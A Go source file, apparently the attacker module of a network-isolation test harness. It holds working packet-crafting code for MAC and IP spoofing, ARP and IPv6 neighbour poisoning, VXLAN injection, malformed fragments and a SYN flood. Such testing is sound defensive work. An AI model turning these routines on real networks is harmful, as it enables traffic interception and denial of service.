// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"os/exec"

	"golang.org/x/sys/unix"
)

// spoofedMAC sends from hardware addresses that are not its own.
func spoofedMAC(a *attacker, w *wire, n uint32) []byte {
	b := w.frame(typeIPv4)
	binary.BigEndian.PutUint32(b[8:], n^0x5a5a5a5a)
	b[6], b[7] = 0x02, 0xff
	return ipv4(b, w.addr, a.Peer, unix.IPPROTO_UDP, uint16(n), 0, udp(uint16(n), 7000, []byte("x")))
}

// spoofedAddress sends as the victim, the router, the resolver, the endpoint, and
// as addresses of nobody.
func spoofedAddress(a *attacker, w *wire, n uint32) []byte {
	nobody := netip.AddrFrom4([4]byte{203, 0, 113, byte(n >> 3)})
	froms := []netip.Addr{a.Victim, a.Router, a.Resolver, a.Endpoint, nobody, netip.AddrFrom4([4]byte{127, 0, 0, 1}), netip.AddrFrom4([4]byte{169, 254, 169, 254})}
	from := froms[n%uint32(len(froms))]
	if n&8 != 0 {
		return ipv4(w.frame(typeIPv4), from, a.Peer, unix.IPPROTO_TCP, uint16(n), 0, syn(from, a.Peer, uint16(n), 7000, n))
	}
	return ipv4(w.frame(typeIPv4), from, a.Resolver, unix.IPPROTO_UDP, uint16(n), 0, udp(uint16(n), 53, []byte("x")))
}

// poison says by ARP, and by neighbour and router discovery, that others are here.
func poison(a *attacker, w *wire, n uint32) []byte {
	everybody := [6]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	victim := []netip.Addr{a.Router, a.Victim, a.Endpoint, a.Resolver}[n/4%4]
	arp := func(op uint16, target netip.Addr) []byte {
		b := append(ether(everybody, w.mac, typeARP), 0, 1, 8, 0, 6, 4)
		b = binary.BigEndian.AppendUint16(b, op)
		b = append(append(b, w.mac[:]...), victim.AsSlice()...)
		return append(append(b, everybody[:]...), target.AsSlice()...)
	}
	switch n % 4 {
	case 0:
		return arp(2, victim) // gratuitous answer
	case 1:
		return arp(1, victim) // gratuitous question
	case 2:
		return arp(2, a.Peer)
	}
	kind := []byte{134, 136, 137}[n/16%3] // router advertisement, neighbour advertisement, redirect
	body := append(make([]byte, 24), 2, 1)
	body = append(body, w.mac[:]...)
	body[0] = kind
	return ipv6(w, unix.IPPROTO_ICMPV6, body)
}

// ipv6 is a packet to all nodes of the link.
func ipv6(w *wire, next uint8, payload []byte) []byte {
	b := append(ether([6]byte{0x33, 0x33, 0, 0, 0, 1}, w.mac, typeIPv6), 0x60, 0, 0, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(len(payload)))
	b = append(b, next, 255)
	from, to := netip.MustParseAddr("fe80::1"), netip.MustParseAddr("ff02::1")
	return append(append(append(b, from.AsSlice()...), to.AsSlice()...), payload...)
}

// vxlan wraps packets from the victim to the peer in VXLAN of several networks, to
// everybody who might unwrap them.
func vxlan(a *attacker, w *wire, n uint32) []byte {
	inner := ipv4(w.frame(typeIPv4), a.Victim, a.Peer, unix.IPPROTO_UDP, 1, 0, udp(1, 7000, []byte("x")))
	vni := 256 + n%64
	outer := append([]byte{8, 0, 0, 0, byte(vni >> 16), byte(vni >> 8), byte(vni), 0}, inner...)
	host := netip.AddrFrom4([4]byte{192, 0, 2, 1}) // as hosts may have
	to := []netip.Addr{a.Peer, a.Resolver, a.Router, a.Endpoint, a.Victim, host, netip.AddrFrom4([4]byte{127, 0, 0, 1})}[n%7]
	return ipv4(w.frame(typeIPv4), w.addr, to, unix.IPPROTO_UDP, uint16(n), 0, udp(uint16(n), 4789, outer))
}

// fragments sends them in every shape, to the peer, the endpoint and the resolver.
func fragments(a *attacker, w *wire, n uint32) []byte {
	to := []netip.Addr{a.Peer, a.Endpoint, a.Resolver}[n/16%3]
	whole := append(syn(w.addr, to, uint16(n), 443, n), make([]byte, 1460)...)
	shape := func(flags uint16, payload []byte) []byte {
		return ipv4(w.frame(typeIPv4), w.addr, to, unix.IPPROTO_TCP, uint16(n), flags, payload)
	}
	six := func(offset uint16, payload []byte) []byte { // a fragment header before it
		b := binary.BigEndian.AppendUint16([]byte{unix.IPPROTO_UDP, 0}, offset)
		b = binary.BigEndian.AppendUint32(b, n)
		p := ipv6(w, unix.IPPROTO_FRAGMENT, append(b, payload...))
		p[14+24] = 0xfe // to one, not to all
		p[14+25] = 0x80
		return p
	}
	switch n % 12 {
	case 0:
		return shape(moreFragments, whole[:1480]) // first
	case 1:
		return shape(moreFragments|185, whole[:1480]) // middle
	case 2:
		return shape(370, whole[:100]) // last
	case 3:
		return shape(moreFragments|1, whole[:64]) // overlaps the first's header
	case 4:
		return shape(moreFragments, whole[:8]) // a first one without the whole header
	case 5:
		return shape(1, whole[:16]) // the rest of that header
	case 6:
		return shape(8191, whole[:64]) // would end beyond 64 KiB
	case 7:
		return shape(moreFragments|dontFragment, whole[:64])
	case 8:
		return shape(moreFragments|100, nil) // empty
	case 9:
		return six(1, whole[:64]) // first
	case 10:
		return six(185<<3, whole[:64]) // last
	}
	return six(1, nil)
}

// tooBig sends to the endpoint what fits a VPC, but no endpoint.
func tooBig(a *attacker, w *wire, n uint32) []byte {
	data := append(syn(w.addr, a.Endpoint, uint16(n), 443, n), make([]byte, 8600)...)
	return ipv4(w.frame(typeIPv4), w.addr, a.Endpoint, unix.IPPROTO_TCP, uint16(n), dontFragment, data)
}

// synFlood opens connections to a port (0: of the peer's) and never goes on: what
// answers is kept from being refused by the attacker's own kernel.
func synFlood(to func(Targets) netip.Addr, port uint16) func(*attacker) error {
	return func(a *attacker) error {
		target := to(a.Targets)
		ports := a.Ports
		if port != 0 {
			ports = []uint16{port}
		}
		route := []string{"route", "replace", "blackhole", target.String() + "/32"}
		if out, err := exec.Command("ip", route...).CombinedOutput(); err != nil {
			return fmt.Errorf("ip %s: %w: %s", route, err, out)
		}
		defer func() { _ = exec.Command("ip", "route", "del", "blackhole", target.String()+"/32").Run() }()
		return flood(func(_ *attacker, w *wire, n uint32) []byte {
			p := ports[n>>16%uint32(len(ports))]
			return ipv4(w.frame(typeIPv4), w.addr, target, unix.IPPROTO_TCP, uint16(n), dontFragment, syn(w.addr, target, uint16(n), p, n))
		})(a)
	}
}
